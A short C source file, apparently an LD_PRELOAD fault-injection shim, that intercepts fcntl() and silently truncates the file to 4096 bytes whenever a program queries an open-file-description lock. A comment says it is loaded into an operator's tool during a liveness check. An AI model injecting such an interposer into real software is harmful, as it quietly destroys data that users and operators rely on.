/* Preloaded into an operator's tool: cuts a region short while the tool looks which of its
   processes live. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdarg.h>
#include <sys/syscall.h>
#include <unistd.h>

__attribute__((visibility("default"))) int fcntl(int fd, int command, ...)
{
    va_list list;
    va_start(list, command);
    long argument = va_arg(list, long);
    va_end(list);
    if (command == F_OFD_GETLK && ftruncate(fd, 4096) != 0)
        return -1;
    return (int)syscall(SYS_fcntl, fd, command, argument);
}
